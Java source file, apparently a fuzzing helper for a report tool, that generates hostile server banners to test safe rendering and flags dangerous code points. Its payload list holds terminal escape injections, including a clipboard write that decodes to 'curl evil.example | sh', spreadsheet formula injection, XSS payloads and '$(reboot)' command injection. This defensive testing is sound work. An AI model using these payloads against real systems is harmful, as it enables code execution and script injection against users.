package rstprobe.report;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// What a server would say to fool a terminal, a browser, a ticket or a spreadsheet.
final class Hostile {
    /// Every C0 and C1 control, DEL, every bidi control, separators, joiners, byte order mark, blanks and stray
    /// surrogates.
    static final String CONTROLS = IntStream.concat(
                            IntStream.concat(IntStream.range(0, 0x20), IntStream.rangeClosed(0x7F, 0x9F)),
                            IntStream.of(
                                    0x61C, 0x200B, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C,
                                    0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xAD, 0x3164, 0x115F,
                                    0xE0041, 0xFFFE, 0xA0))
                    .mapToObj(Character::toString)
                    .collect(Collectors.joining())
            + "\uD83D \uDE00";

    /// Single tricks.
    static final List<String> TRICKS = List.of(
            "\033]8;;http://evil.example/\033\\click here\033]8;;\033\\",
            "\033]8;;file:///etc/passwd\007x\033]8;;\007",
            "\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007",
            "\033]0;title\007",
            "\033]2;title\033\\",
            "\033P$q\"p\033\\",
            "\033P+q544e\033\\",
            "\033[2J\033[H",
            "\033[31;1mFAULT\033[0m",
            "\033[8mhidden\033[28m",
            "\033[6n\033[c\033[>c",
            "\033[?1049h",
            "\033c",
            "\033#8",
            "\033_Gf=100;AAAA\033\\",
            "\033^privacy\033\\",
            "\u009b2J\u009d52;c;QUFB\u009c",
            "\u0090tmux;\u009c",
            "HEALTHY\rFAULT",
            "abc\b\b\bxyz",
            "\007\007\007",
            "a\u000bb\fc\u000ed\u000f",
            "one\ntwo\r\nthree\u0085four\u2028five\u2029six",
            "\u202Etxt.exe\u202C \u2066isolated\u2069",
            "\u200Fright\u200E",
            "\uFEFFSSH-2.0-bom",
            "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C",
            "\uD83D alone \uDE00",
            "\t=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "' onmouseover='alert(1)",
            "</style><script>alert(1)</script>",
            "</pre><iframe src=//evil.example></iframe>",
            "<!--",
            "-->",
            "]]>",
            "<![CDATA[",
            "&lt;&#x3c;&amp;",
            "javascript:alert(1)",
            "[x](javascript:alert(1)) ![x](http://evil.example/x.png)",
            "<http://evil.example> http://evil.example www.evil.example me@evil.example @everyone #1 GH-1",
            "# heading",
            "- item",
            "1. item",
            "> quote",
            "    code",
            "---",
            "===",
            "```\nfence\n```",
            "~~~~",
            "| a | b |",
            "`` ` ``` ```` `",
            "***bold*** __b__ ~~s~~ $x$ \\ \\` \\|",
            "[ref]: http://evil.example",
            "$(reboot) `reboot` ; reboot | reboot",
            "x".repeat(8_192),
            "\u0301".repeat(3_000),
            "漢".repeat(400));

    private Hostile() {}

    /// A banner made of tricks, controls and plain text in any order.
    static String banner(RandomGenerator random) {
        StringBuilder banner = new StringBuilder();
        int parts = random.nextInt(1, 8);
        for (int i = 0; i < parts; i++) {
            switch (random.nextInt(4)) {
                case 0 -> banner.append(TRICKS.get(random.nextInt(TRICKS.size())));
                case 1 -> banner.append(CONTROLS.charAt(random.nextInt(CONTROLS.length())));
                case 2 -> banner.append((char) random.nextInt(0x1_0000));
                default -> banner.append("SSH-2.0-OpenSSH_9.9 ");
            }
        }
        return banner.toString();
    }

    /// A banner as bytes, some of which are no UTF-8.
    static byte[] bytes(RandomGenerator random) {
        byte[] bytes =
                banner(random).getBytes(random.nextBoolean() ? StandardCharsets.UTF_8 : StandardCharsets.ISO_8859_1);
        for (int i = 0; i < bytes.length / 16; i++) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    /// The code points of a text that a terminal would obey or hide; empty for a safe one. Line feeds are ours.
    static List<String> dangers(String text) {
        List<String> dangers = new ArrayList<>();
        text.codePoints()
                .filter(c -> c != '\n')
                .filter(c -> c < 0x20
                        || (c >= 0x7F && c <= 0xA0)
                        || c == 0x61C
                        || (c >= 0x200B && c <= 0x200F)
                        || (c >= 0x2028 && c <= 0x202E)
                        || (c >= 0x2060 && c <= 0x206F)
                        || c == 0xFEFF
                        || c == 0xAD
                        || c == 0x3164
                        || c == 0xFFFE
                        || (c >= 0xD800 && c <= 0xDFFF)
                        || (c >= 0xE0000 && c <= 0xE0FFF))
                .forEach(c -> dangers.add("U+" + Integer.toHexString(c)));
        return dangers;
    }
}
